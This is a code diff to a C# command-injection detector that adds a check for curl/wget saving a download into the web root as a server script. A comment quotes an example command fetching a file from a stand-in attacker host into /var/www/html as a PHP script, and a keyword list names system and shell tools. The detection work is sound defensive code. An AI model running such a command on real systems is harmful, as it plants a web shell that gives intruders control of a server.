@@ -831,7 +831,20 @@ internal static class CommandDetector
     /// </summary>
     private static void OptionInjection(scoped ReadOnlySpan<char> t, ref FindingSink sink)
     {
-        if (!sink.Chars.Has('=') || !sink.Chars.Has('-'))
+        if (!sink.Chars.Has('-'))
+        {
+            return;
+        }
+
+        // curl/wget writing the response into the web root as a script: "x -o /var/www/html/s.php http://evil.example/s.txt".
+        var shortOutput = sink.Chars.Has('/') ? t.IndexOf(" -o /") : -1;
+        if (shortOutput >= 0 && WebRootScript(t[(shortOutput + 4)..]))
+        {
+            sink.Add(RuleKey.CmdiLeadingCommand, shortOutput, t.Length - shortOutput);
+            return;
+        }
+
+        if (!sink.Chars.Has('='))
         {
             return;
         }
@@ -859,7 +872,7 @@ internal static class CommandDetector
             return;
         }
 
-        // curl/wget writing the response into the web root as a script: "--output=/var/www/html/shell.php".
+        // The same with the long option: "--output=/var/www/html/shell.php".
         var output = t.IndexOf("--output=");
         if (output < 0)
         {
@@ -871,12 +884,20 @@ internal static class CommandDetector
             var path = t[(t[output..].IndexOf('=') + output + 1)..];
             var blank = path.IndexOfAny(' ', '\t');
             path = blank < 0 ? path : path[..blank];
-            if (path.EndsWith(".php") || path.EndsWith(".phtml") || path.EndsWith(".jsp") || path.EndsWith(".asp") || path.EndsWith(".aspx")
-                || path.StartsWith("/var/www") || path.StartsWith("/etc/"))
+            if (WebRootScript(path))
             {
                 sink.Add(RuleKey.CmdiLeadingCommand, output, path.Length + 9);
             }
         }
+    }
+
+    /// <summary>Whether a path (up to its first blank) is a server script or lies in the web root or /etc.</summary>
+    private static bool WebRootScript(ReadOnlySpan<char> path)
+    {
+        var blank = path.IndexOfAny(' ', '\t');
+        path = blank < 0 ? path : path[..blank];
+        return path.EndsWith(".php") || path.EndsWith(".phtml") || path.EndsWith(".jsp") || path.EndsWith(".asp") || path.EndsWith(".aspx")
+            || path.StartsWith("/var/www") || path.StartsWith("/etc/");
     }
 
     /// <summary>
@@ -1667,7 +1688,7 @@ internal static class CommandDetector
             printf timeout flock cpulimit perf aptitude apt-get yum dnf rpm dpkg pacman apk systemctl journalctl rmdir mkdir shred aa-disable
             aa-exec uptime xdg-open osascript sqlite3 mysql psql redis-cli openssl gpg php-fpm cmd sh tftp ftp net1 whoami
             uname sysctl modprobe insmod chattr lsattr setfacl getfacl su doas pkexec runuser nsenter unshare capsh setcap getcap ionice
-            telnetd inetd xinetd sshpass tmux rmt lastlogin
+            telnetd inetd xinetd sshpass tmux rmt lastlogin nvram
             """.Split([' ', '\n', '\r'], StringSplitOptions.RemoveEmptyEntries))
         {
             d[c] = Strong;
